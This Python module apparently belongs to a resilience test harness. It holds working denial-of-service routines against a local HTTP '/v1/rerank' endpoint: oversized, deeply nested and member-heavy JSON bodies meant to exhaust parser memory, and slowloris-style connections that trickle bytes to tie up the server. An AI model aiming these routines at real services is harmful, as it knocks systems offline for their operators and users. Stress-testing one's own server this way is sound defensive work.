"""Attacks with HTTP/1 requests: JSON that takes much more memory when parsed, and bodies that arrive slowly."""

import socket
import time


def http_request(port, head, body=b"", timeout_s=10.0):
    """Returns the status of the answer, or 0 when there is none."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as one:
            one.sendall(head + body)
            answer = one.recv(65536)
            return int(answer.split()[1]) if answer else 0
    except OSError:
        return 0


def json_bombs(attacker, count=4):
    """With a token, sends bodies that are hard to parse: millions of empty objects, deep nesting, 600,000 members."""
    flat = b'{"documents":[' + b"{}," * 2_600_000 + b"{}]}"
    deep = b'{"query":' + b"[" * 4_000_000 + b"]" * 4_000_000 + b"}"
    members = b"{" + b",".join(b'"k%d":{}' % i for i in range(600_000)) + b"}"
    bodies = [flat, deep, members]
    sockets, sent, i = [], 0, 0
    while attacker.running():
        if len(sockets) >= count:
            sockets = [one for one in sockets if not answered(one)]
            time.sleep(0.01)
            continue
        body = bodies[i % len(bodies)]
        i += 1
        head = f"POST /v1/rerank HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
        head += f"Authorization: Bearer {attacker.token}\r\n\r\n"
        try:
            one = socket.create_connection(("127.0.0.1", attacker.http_port), timeout=5)
            one.sendall(head.encode() + body)
            sockets.append(one)
            sent += len(body)
        except OSError:
            time.sleep(0.05)
    return {"sent_bytes": sent, "bodies": i}


def answered(one):
    """Closes the socket if the server has answered or closed the connection."""
    one.setblocking(False)
    try:
        one.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        pass
    one.close()
    return True


def slow_bodies(attacker, count=80):
    """Sends HTTP requests whose heads and bodies come a byte at a time."""
    head = f"POST /v1/rerank HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\nAuthorization: Bearer {attacker.token}\r\n\r\n"
    sockets, opened = [], 0
    while attacker.running():
        while len(sockets) < count and attacker.running():
            try:
                one = socket.create_connection(("127.0.0.1", attacker.http_port), timeout=0.2)
                one.sendall(head.encode() if opened % 2 == 0 else b"P")
                sockets.append((one, b" " if opened % 2 == 0 else b"O"))
                opened += 1
            except OSError:
                break
        alive = []
        for one, byte in sockets:
            try:
                one.sendall(byte)
                alive.append((one, byte))
            except OSError:
                one.close()
        sockets = alive
        time.sleep(0.1)
    return {"connections": opened, "open_at_the_end": len(sockets)}
